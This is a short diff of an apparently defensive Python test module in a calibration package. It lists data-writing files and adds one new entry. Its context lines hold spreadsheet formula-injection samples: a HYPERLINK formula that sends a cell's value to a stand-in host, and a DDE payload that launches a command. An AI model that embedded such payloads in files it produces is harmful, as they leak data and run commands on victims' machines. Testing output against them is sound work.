@@ -22,7 +22,10 @@ OTHERS = {
     "probcal/_io.py": "is that place",
     "benchmarks/weka_command_line.py": "writes the rows of an ARFF file for Weka's own command line",
 }
-OF_DATA = {"probcal/try_table/experiment_files.py": "writes rows of data, from which the very values are read again"}
+OF_DATA = {
+    "probcal/try_table/experiment_files.py": "writes rows of data, from which the very values are read again",
+    "probcal/measure/calibrated_file.py": "writes the columns of a user's own file as they are there",
+}
 FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
 LABELS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\uff1d1"]
 
